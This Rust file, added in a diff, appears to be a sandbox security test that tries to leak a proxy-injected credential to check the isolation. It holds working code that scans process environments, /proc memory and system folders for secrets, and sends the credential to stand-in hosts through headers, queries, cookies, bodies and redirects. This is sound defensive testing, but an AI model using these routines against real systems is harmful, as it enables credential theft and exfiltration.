@@ -1,0 +1,327 @@
+//! A credential that is attached on the way out: looked for, sent astray, and asked back.
+
+use std::fs;
+use std::io::{Read as _, Seek as _, SeekFrom};
+
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
+
+use super::client::{Client, ask, tls};
+use super::{Aims, Attempt, Tried, attempt, gist};
+
+/// Nothing larger is searched, and no more in all.
+const PART_MAX: usize = 8 << 20;
+const ALL_MAX: usize = 48 << 20;
+
+/// What an attempt knows of the credential.
+#[derive(Clone)]
+struct Known {
+    client: Client,
+    /// What stands for it here.
+    here: String,
+    stale: String,
+    backwards: Vec<u8>,
+}
+
+impl Known {
+    /// Whether the credential itself is in there, read forwards, or inside base64 words.
+    fn is_in(&self, bytes: &[u8]) -> bool {
+        let plain = |bytes: &[u8]| {
+            bytes
+                .windows(self.backwards.len())
+                .any(|window| window.iter().rev().eq(self.backwards.iter()))
+        };
+        let word = |byte: &u8| byte.is_ascii_alphanumeric() || b"+/=".contains(byte);
+        let encoded = || {
+            bytes
+                .split(|byte| !word(byte))
+                .filter(|word| word.len() > 12)
+                .any(|word| STANDARD.decode(word).is_ok_and(|decoded| plain(&decoded)))
+        };
+        !self.backwards.is_empty() && (plain(bytes) || encoded())
+    }
+
+    fn judge(&self, answer: std::io::Result<Vec<u8>>) -> Tried {
+        match answer {
+            Err(error) => Tried::Refused(error),
+            Ok(bytes) if self.is_in(&bytes) => Tried::Succeeded("the credential came back".to_owned()),
+            Ok(bytes) => Tried::WithoutEffect(gist(&String::from_utf8_lossy(&bytes))),
+        }
+    }
+}
+
+pub(super) fn attempts(id: u16, aims: &Aims) -> Vec<Attempt> {
+    #[expect(clippy::disallowed_methods, reason = "an attacker reads whatever there is")]
+    let here = std::env::var(&aims.variable).unwrap_or_default();
+    let known = Known {
+        client: Client::new(aims),
+        here,
+        stale: aims.stale.clone(),
+        backwards: aims.backwards.clone().into_bytes(),
+    };
+    let bearer = |word: &str| format!("Authorization: Bearer {word}\r\n");
+    match id {
+        129 => vec![send("as a file's name and content", &known, keep)],
+        131 => vec![send("said aloud", &known, say_aloud)],
+        132 => search(&known),
+        133 => wrong_hosts(&known),
+        134 => echoes(&known),
+        135 => wrong_places(&known),
+        136 => vec![send("follows with its header", &known, follow)],
+        137 => vec![
+            plain("Bearer", &known, id, bearer(&known.here)),
+            plain("raw", &known, id, format!("Authorization: {}\r\n", known.here)),
+        ],
+        138 => vec![
+            keyed("with TLS", &known, id, String::new()),
+            plain("plain", &known, id, String::new()),
+        ],
+        139 => {
+            let stale = bearer(&known.stale);
+            vec![keyed("of a run that is over", &known, id, stale)]
+        }
+        _ => Vec::new(),
+    }
+}
+
+fn send(part: &str, known: &Known, act: impl FnOnce(&Known) -> Tried + 'static) -> Attempt {
+    let known = known.clone();
+    attempt(part, move || act(&known))
+}
+
+/// `GET /echo` of the right host with TLS.
+fn echo(known: &Known, path: &str, more: &str) -> std::io::Result<Vec<u8>> {
+    let stream = known.client.tunnel(b"keyed.example.com:443")?;
+    ask(
+        &mut tls(stream, "keyed.example.com", "http/1.1")?,
+        "keyed.example.com",
+        path,
+        more,
+    )
+}
+
+fn keyed(part: &str, known: &Known, id: u16, more: String) -> Attempt {
+    send(part, known, move |known| {
+        known.judge(echo(known, &format!("/echo/{id}"), &more))
+    })
+}
+
+fn plain(part: &str, known: &Known, id: u16, more: String) -> Attempt {
+    send(part, known, move |known| {
+        let url = format!("http://keyed.example.com/echo/{id}");
+        known.judge(known.client.get(&url, &more))
+    })
+}
+
+/// What the right host says back, kept as a file.
+fn keep(known: &Known) -> Tried {
+    let answer = echo(known, "/echo", &format!("Authorization: Bearer {}\r\n", known.here)).unwrap_or_default();
+    let text = String::from_utf8_lossy(&answer).into_owned();
+    let name: String = text
+        .chars()
+        .filter(char::is_ascii_alphanumeric)
+        .rev()
+        .take(200)
+        .collect();
+    let name: String = name.chars().rev().collect();
+    match fs::write(format!("kept-{name}"), text) {
+        Ok(()) => Tried::WithoutEffect("kept".to_owned()),
+        Err(error) => Tried::Refused(error),
+    }
+}
+
+/// The same, in the program's own words; what stands for the credential is told as well, for the run after this one.
+fn say_aloud(known: &Known) -> Tried {
+    let answer = echo(known, "/echo", &format!("Authorization: Bearer {}\r\n", known.here));
+    let text = answer.map(|bytes| String::from_utf8_lossy(&bytes).into_owned());
+    Tried::WithoutEffect(format!("{text:?}"))
+}
+
+fn echoes(known: &Known) -> Vec<Attempt> {
+    let basic = STANDARD.encode(format!("user:{}", known.here));
+    let token = STANDARD.encode(format!("{}:", known.here));
+    [
+        ("Bearer", format!("Authorization: Bearer {}\r\n", known.here)),
+        ("token", format!("Authorization: token {}\r\n", known.here)),
+        ("raw", format!("Authorization: {}\r\n", known.here)),
+        ("Basic, as password", format!("Authorization: Basic {basic}\r\n")),
+        ("Basic, as user", format!("Authorization: Basic {token}\r\n")),
+    ]
+    .into_iter()
+    .map(|(part, header)| keyed(part, known, 134, header))
+    .collect()
+}
+
+fn wrong_hosts(known: &Known) -> Vec<Attempt> {
+    let header = format!("Authorization: Bearer {}\r\n", known.here);
+    let other = |part: &str, host: &'static str, header: String| {
+        send(part, known, move |known| {
+            let target = format!("{host}:443");
+            let asked = known
+                .client
+                .tunnel(target.as_bytes())
+                .and_then(|stream| ask(&mut tls(stream, host, "http/1.1")?, host, "/echo/133", &header));
+            known.judge(asked)
+        })
+    };
+    let http = header.clone();
+    let basic = format!(
+        "Authorization: Basic {}\r\n",
+        STANDARD.encode(format!("user:{}", known.here))
+    );
+    vec![
+        other("Bearer", "allowed.example.com", header.clone()),
+        other("Basic", "allowed.example.com", basic),
+        other("a name below", "x.wild.example.com", header),
+        send("plain", known, move |known| {
+            known.judge(known.client.get("http://allowed.example.com/echo/133", &http))
+        }),
+    ]
+}
+
+fn wrong_places(known: &Known) -> Vec<Attempt> {
+    let here = known.here.clone();
+    let body =
+        |kind: &str, body: String| format!("Content-Type: {kind}\r\nContent-Length: {}\r\n\r\n{body}", body.len());
+    let multipart = format!("--b\r\nContent-Disposition: form-data; name=\"k\"\r\n\r\n{here}\r\n--b--");
+    let tries = [
+        ("the path", format!("/echo/135/{here}"), String::new()),
+        ("the query", format!("/echo/135?key={here}"), String::new()),
+        ("another header", "/echo/135".to_owned(), format!("X-Other: {here}\r\n")),
+        ("a cookie", "/echo/135".to_owned(), format!("Cookie: k={here}\r\n")),
+        ("the body", "/echo/135".to_owned(), body("text/plain", here.clone())),
+        (
+            "a part of the body",
+            "/echo/135".to_owned(),
+            body("multipart/form-data; boundary=b", multipart),
+        ),
+        (
+            "base64 in the body",
+            "/echo/135".to_owned(),
+            body("text/plain", STANDARD.encode(&here)),
+        ),
+    ];
+    tries
+        .into_iter()
+        .map(|(part, path, more)| send(part, known, move |known| known.judge(echo(known, &path, &more))))
+        .collect()
+}
+
+/// The right host leads elsewhere, and the header goes along.
+fn follow(known: &Known) -> Tried {
+    let header = format!("Authorization: Bearer {}\r\n", known.here);
+    let first = echo(known, "/redirect?https://allowed.example.com/echo/136", &header);
+    let led = first.is_ok_and(|bytes| String::from_utf8_lossy(&bytes).contains("allowed.example.com/echo/136"));
+    if !led {
+        return Tried::Refused(std::io::Error::other("it was not led anywhere"));
+    }
+    let stream = known.client.tunnel(b"allowed.example.com:443");
+    let asked = stream.and_then(|stream| {
+        let mut stream = tls(stream, "allowed.example.com", "http/1.1")?;
+        ask(&mut stream, "allowed.example.com", "/echo/136", &header)
+    });
+    known.judge(asked)
+}
+
+/// Everything that can be read here.
+fn search(known: &Known) -> Vec<Attempt> {
+    vec![
+        send("environments and command lines", known, |known| {
+            let own = std::env::vars_os()
+                .map(|(name, value)| [name.as_encoded_bytes(), b"=", value.as_encoded_bytes()].concat());
+            let mut texts: Vec<Vec<u8>> = own.collect();
+            for pid in processes() {
+                for file in ["environ", "cmdline", "status", "mountinfo"] {
+                    texts.extend(fs::read(format!("/proc/{pid}/{file}")));
+                }
+            }
+            found(texts.iter().any(|text| known.is_in(text)))
+        }),
+        send("files", known, |known| {
+            let places = ["/workspace", "/tmp", "/run", "/etc", "/dev/shm", "/var", "."];
+            let mut left = ALL_MAX;
+            found(places.iter().any(|place| in_folder(known, place, 4, &mut left)))
+        }),
+        send("memory", known, |known| {
+            let mut left = ALL_MAX;
+            found(processes().iter().any(|pid| in_memory(known, *pid, &mut left)))
+        }),
+    ]
+}
+
+fn found(found: bool) -> Tried {
+    if found {
+        Tried::Succeeded("the credential was found".to_owned())
+    } else {
+        Tried::WithoutEffect("nowhere".to_owned())
+    }
+}
+
+/// Processes that share this one's network: in a sandbox all there are.
+fn processes() -> Vec<i32> {
+    let net = |pid: &str| fs::read_link(format!("/proc/{pid}/ns/net")).ok();
+    let own = net("self");
+    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
+    let names = entries.filter_map(|entry| entry.file_name().to_str().map(str::to_owned));
+    names
+        .filter(|name| net(name) == own)
+        .filter_map(|name| name.parse().ok())
+        .collect()
+}
+
+fn in_folder(known: &Known, folder: &str, depth: usize, left: &mut usize) -> bool {
+    let entries = fs::read_dir(folder).into_iter().flatten().flatten();
+    entries.into_iter().any(|entry| {
+        let path = entry.path();
+        let text = path.to_string_lossy().into_owned();
+        match entry.file_type() {
+            Ok(kind) if kind.is_dir() => depth > 0 && in_folder(known, &text, depth - 1, left),
+            Ok(kind) if kind.is_file() => {
+                let mut bytes = Vec::new();
+                let most = PART_MAX.min(*left) as u64;
+                // What cannot be read holds nothing for whoever cannot read it.
+                let _ = fs::File::open(&path).and_then(|file| file.take(most).read_to_end(&mut bytes));
+                *left -= bytes.len().min(*left);
+                known.is_in(text.as_bytes()) || known.is_in(&bytes)
+            }
+            _ => false,
+        }
+    })
+}
+
+/// What another process, or this one, holds where it may be read. Its own search word is backwards.
+fn in_memory(known: &Known, pid: i32, left: &mut usize) -> bool {
+    let Ok(maps) = fs::read_to_string(format!("/proc/{pid}/maps")) else {
+        return false;
+    };
+    let Ok(mut memory) = fs::File::open(format!("/proc/{pid}/mem")) else {
+        return false;
+    };
+    maps.lines().filter(|line| line.contains(" rw")).any(|line| {
+        let range = line.split(' ').next().and_then(|range| range.split_once('-'));
+        let number = |text: &str| u64::from_str_radix(text, 16).ok();
+        let Some((Some(from), Some(to))) = range.map(|(from, to)| (number(from), number(to))) else {
+            return false;
+        };
+        let length = usize::try_from(to - from).unwrap_or(PART_MAX).min(PART_MAX).min(*left);
+        *left -= length;
+        let mut bytes = vec![0; length];
+        let read = memory
+            .seek(SeekFrom::Start(from))
+            .and_then(|_| memory.read_exact(&mut bytes));
+        read.is_ok() && known.is_in_plain(&bytes)
+    })
+}
+
+impl Known {
+    /// As [`Known::is_in`], without looking into words.
+    fn is_in_plain(&self, bytes: &[u8]) -> bool {
+        let Some(first) = self.backwards.last() else {
+            return false;
+        };
+        let places = bytes.iter().enumerate().filter(|(_, byte)| *byte == first);
+        places
+            .filter_map(|(at, _)| bytes.get(at..at + self.backwards.len()))
+            .any(|window| window.iter().rev().eq(self.backwards.iter()))
+    }
+}
